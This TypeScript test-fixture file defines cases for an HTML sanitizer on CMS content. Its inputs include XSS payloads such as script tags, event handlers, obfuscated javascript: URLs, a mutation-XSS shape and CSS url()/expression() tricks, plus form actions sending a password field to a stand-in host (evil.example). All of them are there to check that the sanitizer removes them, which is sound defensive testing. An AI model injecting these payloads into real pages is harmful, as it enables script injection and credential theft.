// What sanitizeHtml must do to CMS HTML, whichever engine runs it: DOMPurify (unit tests, jsdom) and
// the browser's HTML Sanitizer API and DOMPurify in Chromium (test/e2e/sanitizer.test.ts).

export interface SanitizeCase {
  title: string;
  html: string;
  /** The exact result. */
  out?: string;
  /** Patterns the result must not contain. */
  never?: RegExp[];
  /** Texts the result must contain. */
  keeps?: string[];
}

const UNSAFE_STYLES = [
  'background: url(https://evil.example/beacon.gif)',
  'background-image: URL ("javascript:alert(1)")',
  'width: expression(alert(1))',
  'background: image-set("https://evil.example/a.png" 1x)',
  'behavior: url(x.htc)',
  '-moz-binding: url(x.xml#xss)',
  'background: \\75 rl(https://evil.example/escaped.gif)',
  'background: u/**/rl(x)',
  'position: fixed; inset: 0',
  'position:sticky',
];

export const SANITIZE_CASES: SanitizeCase[] = [
  { title: 'keeps ordinary markup and links', html: '<ul><li><a href="/eu/de/x">X</a></li></ul>', out: '<ul><li><a href="/eu/de/x">X</a></li></ul>' },
  {
    title: 'removes scripts, event handlers and javascript: URLs',
    html: '<p onclick="alert(1)">a</p><script>alert(1)</script><a href="javascript:alert(1)">b</a>',
    out: '<p>a</p><a>b</a>',
  },
  {
    title: 'removes javascript: URLs however they are spelled',
    html: '<a href=" JaVaScRiPt:alert(1)">a</a><a href="java&#x09;script:alert(1)">b</a><a href="vbscript:x">c</a>',
    out: '<a>a</a><a>b</a><a>c</a>',
  },
  {
    title: 'removes data: URLs, even on images',
    html: '<img src="data:image/png;base64,AAAA" alt="x"><a href="data:text/html,hi">c</a>',
    never: [/data:/],
    keeps: ['alt="x"'],
  },
  {
    title: 'checks every URL of a srcset',
    html: '<img src="/a.png" srcset="/a.png 1x, data:image/png;base64,AA 2x" alt="">',
    never: [/srcset|data:/],
    keeps: ['src="/a.png"'],
  },
  {
    title: 'keeps http(s), mailto, tel and relative URLs',
    html: '<a href="https://x.example/a">a</a><a href="mailto:hi@x.example">b</a><a href="tel:+44123">c</a><a href="#top">d</a>',
    out: '<a href="https://x.example/a">a</a><a href="mailto:hi@x.example">b</a><a href="tel:+44123">c</a><a href="#top">d</a>',
  },
  {
    title: 'keeps target=_blank with rel="noopener noreferrer"',
    html: '<a href="https://x.example" target="_blank" rel="opener">x</a>',
    out: '<a href="https://x.example" target="_blank" rel="noopener noreferrer">x</a>',
  },
  {
    title: 'gives any other target, however spelled, rel="noopener noreferrer" too (a named window is a new one)',
    html: '<a href="//x.example/" target="_BLANK" rel="opener">a</a><a href="https://x.example/" target="shopwin">b</a><a href="/c" target="_self">c</a>',
    out: '<a href="//x.example/" target="_BLANK" rel="noopener noreferrer">a</a><a href="https://x.example/" target="shopwin" rel="noopener noreferrer">b</a><a href="/c" target="_self">c</a>',
  },
  {
    title: 'treats a target with spaces as the named window it is (browsers do not trim it)',
    html: '<a href="https://x.example/" target=" _self">a</a>',
    // Either the target comes out as plain _self, or the link keeps no handle on our window.
    never: [/target="\s+_self"(?![^>]*rel="noopener noreferrer")/],
  },
  { title: 'drops SVG and MathML (HTML only)', html: '<svg><circle r="1"></circle></svg><math><mi>x</mi></math>', out: '' },
  {
    title: 'removes <style> elements, with their rules',
    html: '<style>@import "https://evil.example/x.css"; body{display:none}</style><p>Text</p>',
    out: '<p>Text</p>',
  },
  {
    title: 'defeats the mutation-XSS shape that hides markup inside a style element',
    html: '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
    never: [/onerror|<style/i],
  },
  {
    title: 'removes document-level and embedding elements',
    html: '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example"><link rel="stylesheet" href="https://evil.example/x.css"><iframe src="https://evil.example"></iframe><object data="x"></object><embed src="x"><p>ok</p>',
    out: '<p>ok</p>',
  },
  {
    title: 'removes ids and names that would shadow document properties',
    html: '<img name="cookie" src="/a.png" alt=""><form id="getElementById"></form><p id="intro">a</p>',
    never: [/cookie|getElementById/],
    keeps: ['id="intro"'],
  },
  { title: 'drops HTML comments', html: '<p>a<!-- note --></p>', out: '<p>a</p>' },
  {
    title: 'keeps a form that posts to this site',
    html: '<form action="/newsletter/subscribe" method="post"><input name="email"></form>',
    out: '<form action="/newsletter/subscribe" method="post"><input name="email"></form>',
  },
  {
    title: 'drops a form action or formaction on another site, however it is spelled',
    html: '<form action="https://evil.example/steal"><input name="password"></form><form action="//evil.example/x"></form>'
      + '<form action="/\\evil.example/x"></form><form action=" \thttps://evil.example"></form><form><button formaction="https://evil.example/x">Go</button></form>',
    never: [/evil\.example/],
    keeps: ['<input name="password">', '<button>Go</button>'],
  },
  {
    title: 'keeps harmless inline styles and CMS attributes',
    html: '<p style="color: red; text-align: center" class="lead" data-role="x" aria-label="Intro">a</p>',
    keeps: ['style="color: red; text-align: center"', 'class="lead"', 'data-role="x"', 'aria-label="Intro"'],
  },
  ...UNSAFE_STYLES.map((style) => ({
    title: `drops a style attribute that can load, run or overlay: ${style}`,
    html: `<p style='${style}'>a</p>`,
    out: '<p>a</p>',
  })),
];

/** The assertions of one case on a sanitiser's output, as a list of failures ([] when it passes). */
export function sanitizeFailures(testCase: SanitizeCase, output: string): string[] {
  const failures: string[] = [];
  if (testCase.out !== undefined && output !== testCase.out) failures.push(`expected ${JSON.stringify(testCase.out)}, got ${JSON.stringify(output)}`);
  for (const pattern of testCase.never ?? []) if (pattern.test(output)) failures.push(`${pattern} found in ${JSON.stringify(output)}`);
  for (const text of testCase.keeps ?? []) if (!output.includes(text)) failures.push(`${JSON.stringify(text)} missing from ${JSON.stringify(output)}`);
  return failures;
}
